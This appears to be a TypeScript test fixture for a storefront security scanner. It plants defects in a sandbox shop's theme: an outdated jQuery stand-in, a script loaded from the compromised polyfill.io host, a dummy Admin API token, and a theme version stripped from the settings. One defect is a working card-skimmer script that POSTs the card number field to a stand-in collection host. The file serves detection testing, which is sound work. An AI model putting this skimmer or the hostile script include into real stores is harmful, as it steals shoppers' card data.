import type { ShopDefect } from './defect.ts';
import type { ShopState, ThemeFileState } from './shops/shop-state.ts';
import { themeDefect } from './theme-defect.ts';

/** Of nobody: it opens nothing. */
const TOKEN = `shpat_${'0123456789abcdef'.repeat(2)}`;

/** What stands in the code of the published theme. None of it works: stand-ins with the looks of the real thing. */
export const CODE_DEFECTS: readonly ShopDefect[] = [
  themeDefect({
    id: 'old-jquery',
    title: 'The theme’s script carries a library with known flaws (its first line alone, as a stand-in)',
    checkId: 'security/vulnerable-libraries',
    file: 'assets/theme.js.liquid',
    before: '// Opens the size guide',
    planted: '/*! jQuery v1.8.3 stand-in of the sandbox */\n',
  }),
  themeDefect({
    id: 'polyfill-script',
    title: 'The theme still loads a helper from a host that changed hands',
    checkId: 'security/bad-hosts',
    file: 'layout/theme.liquid',
    before: '</head>',
    planted: '<script src="https://cdn.polyfill.io/v3/polyfill.min.js"></script>\n',
  }),
  themeDefect({
    id: 'token-in-snippet',
    title: 'A snippet holds an Admin API token',
    checkId: 'security/public-secrets',
    file: 'snippets/trust-row.liquid',
    before: '<ul class="trust">',
    planted: `<script>window.haldiStock = { token: "${TOKEN}" };</script>\n`,
  }),
  themeDefect({
    id: 'card-skimmer',
    title: 'A script in the cart reads card fields and sends them away',
    checkId: 'security/skimmer-behaviour',
    file: 'sections/main-cart.liquid',
    before: '<h1>',
    planted: `<script>document.addEventListener("submit", function () { var field = document.querySelector("input[name='cardnumber']"); if (field) fetch("https://collect.purana-stats.example/c", { method: "POST", body: field.value }); });</script>\n  `,
  }),
  themeDefect({
    id: 'change-of-nobody',
    title: 'A line was added to a snippet after the theme was accepted',
    checkId: 'security/theme-integrity',
    file: 'snippets/social-links.liquid',
    before: '</ul>',
    planted: '  <li class="social__new">{{ shop.name | escape }}</li>\n',
  }),
  releaseDefect(),
];

function releaseDefect(): ShopDefect {
  const said = '"theme_version": "1.2.0"';
  const unsaid = '"theme_version": ""';
  return {
    where: 'shop',
    id: 'theme-without-version',
    title: 'The theme does not say which release it is',
    checkId: 'security/theme-supported',
    webhookTopic: null,
    isPresent: (shop) => schemaOf(shop).content.includes(unsaid),
    plant: (shop, nowIso) => rewrite(schemaOf(shop), said, unsaid, nowIso),
    mend: (shop, nowIso) => rewrite(schemaOf(shop), unsaid, said, nowIso),
  };
}

function schemaOf(shop: ShopState): ThemeFileState {
  const file = shop.themes.find(({ role }) => role === 'MAIN')?.files['config/settings_schema.json'];
  if (!file) throw new RangeError('The published theme has no settings.');
  return file;
}

function rewrite(file: ThemeFileState, from: string, to: string, nowIso: string): void {
  if (!file.content.includes(from)) return;
  file.content = file.content.replace(from, to);
  file.updatedAt = nowIso;
}
